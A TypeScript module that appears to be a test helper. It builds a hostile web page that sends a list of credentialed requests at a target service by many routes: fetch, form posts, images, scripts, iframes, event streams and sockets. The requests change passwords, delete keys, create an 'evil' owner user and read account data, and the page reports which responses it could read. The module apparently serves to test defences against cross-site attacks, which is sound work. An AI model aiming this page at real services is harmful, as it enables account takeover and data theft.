/** What a hostile page tries on one address after the other, by every way that a page has of asking. */
export type AttackReport = { readonly readable: readonly string[]; readonly tried: number };

export const ATTACKED: readonly (readonly [method: string, path: string, body: string])[] = [
  ["POST", "/auth/logout", ""],
  ["POST", "/auth/password", '{"current":"a wall of seventeen green bottles","next":"another wall of green bottles"}'],
  ["POST", "/api/keys", '{"name":"evil"}'],
  ["DELETE", "/api/keys/default", ""],
  ["POST", "/api/users", '{"name":"evil","role":"owner","password":"another wall of green bottles"}'],
  ["POST", "/api/tokens", '{"name":"evil"}'],
  ["PUT", "/api/strategy", '{"name":"priority"}'],
  ["POST", "/v1/messages", '{"model":"m","max_tokens":1,"messages":[]}'],
  ["GET", "/api/accounts", ""],
  ["GET", "/api/users", ""],
  ["GET", "/auth/session", ""],
  ["GET", "/api/audit", ""],
];

/** The page. It says what it could read by POST /report to where it came from. */
export function attackPage(target: string): string {
  return `<!doctype html><meta charset="utf-8"><body><script>
const target = ${JSON.stringify(target)}, attacked = ${JSON.stringify(ATTACKED)};
const readable = []; let tried = 0;
const limit = (work) => Promise.race([work, new Promise((done) => setTimeout(done, 1500))]).catch(() => undefined);
const asked = async (name, url, init) => {
  tried += 1;
  const answer = await fetch(url, { credentials: "include", ...init });
  if (answer.type !== "opaque" && answer.ok && (await answer.text()).length > 0) readable.push(name);
};
const element = (name, tag, set) => new Promise((done) => {
  tried += 1;
  const made = document.createElement(tag);
  made.onload = () => { if (tag === "script" || tag === "img") readable.push(name); done(); };
  made.onerror = () => done();
  set(made); document.body.append(made);
});
const form = (url, method, body, type) => {
  tried += 1;
  const frame = document.createElement("iframe"); frame.name = "f" + tried; document.body.append(frame);
  const made = document.createElement("form"); made.action = url; made.target = frame.name; made.method = method; made.enctype = type;
  const field = document.createElement("input"); field.name = body || "x"; field.value = ""; made.append(field);
  document.body.append(made); made.submit();
};
const stream = (name, make) => new Promise((done) => {
  tried += 1;
  const made = make();
  made.onmessage = () => { readable.push(name); done(); };
  made.onopen = () => { readable.push(name); made.close(); done(); };
  made.onerror = () => { made.close(); done(); };
});
(async () => {
  for (const [method, path, body] of attacked) {
    const url = target + path, name = method + " " + path;
    const content = method === "GET" ? {} : { body };
    await limit(asked(name + " json", url, { method, ...content, headers: { "content-type": "application/json" } }));
    await limit(asked(name + " text", url, { method: method === "GET" ? "GET" : "POST", ...content, headers: { "content-type": "text/plain" } }));
    await limit(asked(name + " no-cors", url, { method: method === "GET" ? "GET" : "POST", ...content, mode: "no-cors" }));
    for (const type of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]) form(url, "post", body, type);
    form(url, "get", body, "text/plain");
    await limit(element(name + " img", "img", (made) => { made.src = url; }));
    await limit(element(name + " script", "script", (made) => { made.src = url; }));
    await limit(element(name + " frame", "iframe", (made) => { made.src = url; made.id = "framed"; }));
    await limit(stream(name + " events", () => new EventSource(url, { withCredentials: true })));
    await limit(stream(name + " socket", () => new WebSocket(url.replace("http", "ws"))));
  }
  for (const frame of document.querySelectorAll("iframe")) {
    try { if (frame.contentDocument && frame.contentDocument.body.textContent && frame.src.startsWith(target)) readable.push("frame " + frame.src); } catch {}
  }
  await fetch("/report", { method: "POST", body: JSON.stringify({ readable, tried }) });
})();
</script>`;
}
